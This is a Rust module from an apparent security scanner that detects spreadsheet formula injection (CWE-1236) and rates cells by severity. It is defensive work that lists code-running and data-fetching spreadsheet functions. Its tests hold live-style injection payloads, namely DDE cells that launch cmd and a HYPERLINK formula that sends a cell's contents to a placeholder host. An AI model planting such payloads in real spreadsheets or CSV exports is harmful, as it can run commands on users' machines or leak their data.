//! Cells that a spreadsheet program would execute (CWE-1236).

use cofferdam_schemas::Severity;

/// Functions that fetch, send, or run something, in Excel, LibreOffice or Google Sheets.
const REACHING: [&str; 17] = [
    "HYPERLINK",
    "WEBSERVICE",
    "FILTERXML",
    "IMPORTXML",
    "IMPORTDATA",
    "IMPORTHTML",
    "IMPORTFEED",
    "IMPORTRANGE",
    "IMAGE",
    "RTD",
    "DDE",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "EXEC",
    "SHELL",
    "GOOGLEFINANCE",
];

/// Bytes of a cell that are looked at.
const LOOKED: usize = 4096;

/// How grave a cell is as a formula; `None` if it is none. High where it reaches beyond the sheet (DDE such as `cmd|…!A0`, functions that
/// fetch or run), medium for other calls and references. Numbers, phone numbers, `-`, handles such as `@name` and text behind a dash
/// are none.
pub fn judge(cell: &str) -> Option<Severity> {
    let cell = cell.trim_start_matches([' ', '\t', '\r', '\n']);
    // Spreadsheets take full-width signs for the plain ones.
    let sign = cell.chars().next()?;
    let plain = match sign {
        '=' | '\u{ff1d}' => '=',
        '+' | '\u{ff0b}' => '+',
        '-' | '\u{ff0d}' => '-',
        '@' | '\u{ff20}' => '@',
        _ => return None,
    };
    let rest = &cell[sign.len_utf8()..];
    let rest = &rest[..rest.floor_char_boundary(LOOKED)];
    if reaches(rest) {
        return Some(Severity::High);
    }
    let body = rest.trim_start();
    let is_formula = match plain {
        // Lines of signs part sections of text: ====
        '=' => body
            .starts_with(|c: char| c.is_alphanumeric() || matches!(c, '(' | '"' | '+' | '-' | '@' | '$' | '\'' | '{')),
        _ => calls(body),
    };
    is_formula.then_some(Severity::Medium)
}

/// A name directly before a parenthesis: `SUM(`.
fn calls(text: &str) -> bool {
    let (Some(first), Some(last)) = (text.find('('), text.rfind(')')) else {
        return false;
    };
    let named = |(at, _): (usize, &str)| at < last && !name_before(text, at).is_empty();
    !text[..first].contains(' ') && text.match_indices('(').any(named)
}

fn name_before(text: &str, at: usize) -> &str {
    let begin = text[..at]
        .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_')))
        .map_or(0, |found| found + 1);
    // The character found may take several bytes.
    let begin = text.ceil_char_boundary(begin);
    let name = &text[begin..at];
    if name.starts_with(|c: char| c.is_ascii_alphabetic()) {
        name
    } else {
        ""
    }
}

fn reaches(text: &str) -> bool {
    let calls = text.match_indices('(').any(|(at, _)| {
        let name = name_before(text, at);
        REACHING.iter().any(|function| name.eq_ignore_ascii_case(function))
    });
    // Dynamic data exchange: application|topic!item.
    let dde = text.split_once('|').is_some_and(|(program, rest)| {
        let named = program.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '\'');
        named && rest.contains('!')
    });
    calls || dde
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas() {
        for cell in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.invalid?\"&A1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=WebService(\"x\")",
            "＝IMPORTXML(A1)",
        ] {
            assert_eq!(judge(cell), Some(Severity::High), "{cell}");
        }
        for cell in ["=1+1", "=A1", "+SUM(A1:A2)", "@SUM(A1)", "=\"a\"&B1", "-ABS(A1)"] {
            assert_eq!(judge(cell), Some(Severity::Medium), "{cell}");
        }
        for cell in [
            "",
            "-",
            "-5",
            "+1.5e3",
            "+234 803 123 4567",
            "+1 (555) 123-4567",
            "@handle",
            "- a note (see below)",
            "-1 (low)",
            "====",
            "= ",
            "a=b",
            "--flag",
            "+/- 5",
            "-ve",
            "é(",
            "@é()",
        ] {
            assert_eq!(judge(cell), None, "{cell}");
        }
    }
}
